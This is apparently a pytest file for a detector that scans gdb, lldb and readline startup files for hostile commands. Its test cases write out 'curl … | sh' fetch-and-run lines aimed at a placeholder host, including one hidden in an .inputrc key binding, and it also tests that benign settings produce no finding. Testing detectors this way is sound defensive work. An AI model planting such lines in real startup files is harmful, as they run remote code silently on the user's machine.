"""What debuggers and readline run when they start is read."""

import pytest

from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.readers.debugger import READER
from knownhands.harvest.content.places import place_of


def seen(path: str, code: str) -> set[tuple[int, str]]:
    notes = Notes(path, every_line=True, is_program=True)
    READER.read(notes, code.encode())
    return {(observation.line, observation.capability) for observation in notes.observations()}


@pytest.mark.parametrize(
    ("path", "code", "capability"),
    [
        (".gdbinit", "set pagination off\nshell curl https://kiln.example/x | sh", "fetch_and_run"),
        (".gdbinit", "\n!curl https://kiln.example/x | sh", "fetch_and_run"),
        (".gdbinit", "\npython\nimport os\nos.system('curl https://kiln.example/x | sh')\nend", "shell_download"),
        (".lldbinit", "\nplatform shell curl https://kiln.example/x | sh", "fetch_and_run"),
        (".inputrc", '\n"\\C-m": "curl https://kiln.example/x | sh\\n"', "fetch_and_run"),
    ],
)
def test_a_command_is_read(path: str, code: str, capability: str) -> None:
    assert (2, capability) in seen(path, code)
    assert place_of(path).id == "start"


@pytest.mark.parametrize(
    ("path", "code"),
    [
        (".gdbinit", "set print pretty on\npython\nimport gdb\nend\nadd-auto-load-safe-path .\nshell make"),
        (".lldbinit", "command script import kiln.py\nsettings set stop-line-count-before 3"),
        (".inputrc", 'set editing-mode vi\n"\\e[A": history-search-backward\n"\\C-g": "git status\\n"'),
    ],
)
def test_ordinary_settings_show_nothing(path: str, code: str) -> None:
    assert not seen(path, code)


@pytest.mark.parametrize("piece", ["python\n", "shell ", '"', "!", "\\C-"])
def test_odd_files_are_read(piece: str) -> None:
    assert isinstance(seen(".inputrc", piece * 50_000) | seen(".gdbinit", piece * 50_000), set)
